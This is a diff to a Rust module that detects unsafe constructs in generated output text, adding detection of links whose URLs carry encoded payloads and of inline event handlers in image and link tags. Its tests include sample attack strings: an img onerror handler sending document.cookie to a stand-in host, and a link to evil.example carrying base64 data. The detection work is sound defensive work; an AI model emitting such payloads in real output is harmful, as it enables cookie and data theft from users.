@@ -21,6 +21,8 @@ pub enum Kind {
     Script,
     /// A link to a host outside the allowlist.
     UnlistedLink,
+    /// A link whose URL carries an encoded or long payload (exfiltration on click).
+    LinkExfiltration,
 }
 
 impl Kind {
@@ -30,6 +32,7 @@ impl Kind {
             Kind::ImageExfiltration => "markdown_image_exfil",
             Kind::Script => "html_script",
             Kind::UnlistedLink => "link_unlisted",
+            Kind::LinkExfiltration => "link_exfil",
         }
     }
 }
@@ -132,6 +135,45 @@ fn carries_data(url: &str) -> bool {
     })
 }
 
+/// Whether a URL carries a payload rather than ordinary parameters: a query or fragment value
+/// of 24 or more dense characters (base64, percent-encoded text), or a long dense path segment.
+fn carries_payload(url: &str) -> bool {
+    let after_host = url
+        .split_once("://")
+        .map_or(url, |(_, r)| r.find('/').map_or("", |i| &r[i..]));
+    let dense = |v: &str| {
+        v.len() >= 24
+            && v.chars().all(|c| {
+                c.is_ascii_alphanumeric() || matches!(c, '%' | '+' | '/' | '=' | '_' | '-' | '.')
+            })
+    };
+    if let Some((_, q)) = after_host.split_once(['?', '#'])
+        && q.split(['&', ';', '#'])
+            .any(|kv| dense(kv.split_once('=').map_or(kv, |(_, v)| v)))
+    {
+        return true;
+    }
+    carries_data(after_host.split(['?', '#']).next().unwrap_or(""))
+        && after_host.split('/').any(|seg| seg.len() >= 32)
+}
+
+/// Whether a tag holds an inline event handler or a script URL.
+fn active(tag: &str) -> bool {
+    let t = tag.to_ascii_lowercase();
+    t.contains("javascript:")
+        || t.contains("vbscript:")
+        || t.split(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '/')
+            .any(|w| {
+                w.starts_with("on")
+                    && w.len() > 3
+                    && w[2..]
+                        .split('=')
+                        .next()
+                        .is_some_and(|n| n.len() >= 3 && n.chars().all(|c| c.is_ascii_lowercase()))
+                    && w.contains('=')
+            })
+}
+
 /// Finds unsafe constructs in output text.
 pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
     let re = regex();
@@ -158,6 +200,7 @@ pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
         let host = host_of(url);
         let listed = host.as_deref().is_some_and(|h| allow.allows(h));
         let kind = match pid {
+            HTML_IMAGE | HTML_LINK if active(&text[s..e]) => Some(Kind::Script),
             IMAGE | HTML_IMAGE => {
                 let lower = url.to_ascii_lowercase();
                 if lower.starts_with("javascript:") || lower.starts_with("data:text/html") {
@@ -172,7 +215,11 @@ pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
             }
             SCRIPT => Some(Kind::Script),
             LINK | HTML_LINK | BARE => {
-                if allow.hosts.is_empty() || listed || host.is_none() {
+                if host.is_none() || listed {
+                    None
+                } else if carries_payload(url) {
+                    Some(Kind::LinkExfiltration)
+                } else if allow.hosts.is_empty() {
                     None
                 } else {
                     Some(Kind::UnlistedLink)
@@ -260,6 +307,34 @@ mod tests {
             [Kind::Script]
         );
         assert!(kinds("Use `<div>` and `<span>` elements; x < y and y > z.", &[]).is_empty());
+    }
+
+    #[test]
+    fn handlers_inside_image_and_link_tags_are_script() {
+        assert_eq!(
+            kinds(
+                r#"<img src=x onerror="fetch('//e.example/'+document.cookie)">"#,
+                &[]
+            ),
+            [Kind::Script]
+        );
+        assert_eq!(
+            kinds(
+                r#"<a href="https://ok.example/" onclick="steal()">x</a>"#,
+                &[]
+            ),
+            [Kind::Script]
+        );
+        assert!(kinds(r#"<a href="https://ok.example/">only a link</a>"#, &[]).is_empty());
+    }
+
+    #[test]
+    fn links_carrying_a_payload_without_an_allowlist() {
+        let t = "[click here](https://evil.example/c?d=bXkgc3NuIGlzIDUzNi05MC00Mzk5IGFuZCBtb3Jl)";
+        assert_eq!(kinds(t, &[]), [Kind::LinkExfiltration]);
+        // ordinary parameters are not a payload
+        assert!(kinds("[docs](https://docs.example.com/search?q=rust&page=2)", &[]).is_empty());
+        assert!(kinds("see https://example.com/watch?v=dQw4w9WgXcQ", &[]).is_empty());
     }
 
     #[test]
